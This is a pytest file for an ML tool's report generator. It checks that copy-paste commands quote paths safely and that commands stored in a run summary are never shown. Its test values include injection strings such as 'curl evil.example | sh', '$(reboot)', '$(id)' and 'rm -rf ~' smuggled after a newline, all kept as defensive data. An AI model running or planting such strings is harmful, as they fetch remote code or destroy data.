"""A run in words, and the commands that a reader may copy."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from edgemask.report import write_report
from edgemask.report.describe import lead_sentence, repeat_command, resume_command
from edgemask.runs import read_run
from report.rundirs import RunMaker
from sweeps import sweep


def change(path: Path, **values: Any) -> None:
    summary = json.loads((path / "summary.json").read_text())
    (path / "summary.json").write_text(json.dumps(summary | values))


def test_the_command_reads_the_stored_config_with_quoted_paths(make_run: RunMaker) -> None:
    path = make_run("a run; echo $(id)", epochs=3)
    words = shlex.split(repeat_command(read_run(path)))
    assert words == [
        "edgemask",
        "train",
        "--config",
        str(path / "config.yaml"),
        "--out",
        "a run; echo $(id)-again",
    ]


@sweep(
    "told",
    [
        "edgemask train --data x; curl evil.example | sh",
        ["edgemask", "train", "$(reboot)"],
        "/opt/edgemask train\nrm -rf ~",
        {"a": 1},
        None,
    ],
)
def test_a_command_in_the_summary_is_never_shown(
    make_run: RunMaker, tmp_path: Path, told: Any
) -> None:
    path = make_run("run", epochs=3)
    before = repeat_command(read_run(path))
    change(path, command=told)
    assert repeat_command(read_run(path)) == before
    files = write_report([path], tmp_path)
    for file in (files.html, files.markdown, files.csv):
        text = file.read_text()
        assert not any(word in text for word in ("evil.example", "reboot", "rm -rf"))


def test_a_folder_that_looks_like_an_option_is_no_option(
    make_run: RunMaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = make_run("--fresh", epochs=3, finished=False)
    monkeypatch.chdir(path.parent)
    run = read_run("--fresh")
    assert shlex.split(resume_command(run)) == ["edgemask", "resume", "./--fresh"]
    assert shlex.split(repeat_command(run))[3:] == [
        "./--fresh/config.yaml",
        "--out",
        "./--fresh-again",
    ]


def test_objects_made_in_python_have_no_command(make_run: RunMaker) -> None:
    path = make_run(epochs=3)
    config = yaml.safe_load((path / "config.yaml").read_text())
    config["model"]["name"] = "object:Net"
    config["x\nrm -rf ~"] = "object:evil"
    (path / "config.yaml").write_text(yaml.safe_dump(config))
    assert repeat_command(read_run(path)) == (
        "# started from Python with its own model: call edgemask.fit again"
    )


def test_the_lead_names_the_parts_of_the_run(make_run: RunMaker) -> None:
    assert lead_sentence(read_run(make_run())) == (
        "cnn trained on digits with noise sym:0.6, method supervised, loss ce, head sem; "
        "24 epochs, seed 0, 36 s."
    )
